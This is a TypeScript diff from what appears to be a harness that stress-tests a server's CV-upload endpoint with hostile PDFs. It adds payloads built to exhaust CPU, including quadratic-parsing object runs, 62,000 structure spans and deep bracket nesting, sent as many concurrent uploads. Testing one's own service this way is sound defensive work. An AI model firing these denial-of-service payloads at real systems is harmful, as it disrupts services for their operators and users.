@@ -13,16 +13,20 @@ import { ask } from '../ask.ts'
 import type { Attack, Target } from '../attack.ts'
 import { repeat } from '../repeat.ts'
 
+const bodyOf = (file: Uint8Array): string => JSON.stringify({ name: 'CV', file: dataUrl('application/pdf', file) })
+
 const QUADRATIC_BYTES = 4_500_000
 const unit = 'obj<<'
-const quadratic = Buffer.from(`%PDF-1.7\n${unit.repeat(QUADRATIC_BYTES / unit.length)}`)
+const quadratic = bodyOf(handMadePdf({ objects: [unit.repeat(QUADRATIC_BYTES / unit.length)] }))
+/** Two seconds of computing time, and nothing to refuse. */
+const slow = bodyOf(handMadePdf({ objects: Array<string>(62_000).fill('<< /S /Span /P 1000 0 R /K [1 2] >>') }))
 
-const upload = (target: Target, index: number, file: Uint8Array) =>
+const upload = (target: Target, index: number, body: string) =>
   ask(target.port, {
     method: 'POST',
     path: '/api/users/upload-cv-file',
     token: target.candidates[index % target.candidates.length]?.token ?? '',
-    body: { name: 'CV', file: dataUrl('application/pdf', file) },
+    body,
     ended: target.ended,
   })
 
@@ -47,5 +51,10 @@ export const hostilePdfs: Attack = async (target) => {
     handMadePdf({ catalog: '/A '.repeat(500_000) }),
     handMadePdf({ objects: [`${'['.repeat(500_000)}`] }),
   ]
-  await repeat(target, 40, (index) => upload(target, index, files[index % files.length] ?? quadratic))
+  const bodies = files.map(bodyOf)
+  await repeat(target, 40, (index) => upload(target, index, bodies[index % files.length] ?? quadratic))
 }
+
+/** Six candidates, each with 22 uploads at the same time of a file that takes long: accepted for three of them. */
+export const slowPdfs: Attack = (target) =>
+  repeat(target, 6 * 22, (index) => upload(target, index % 6, index % 2 ? slow : quadratic))
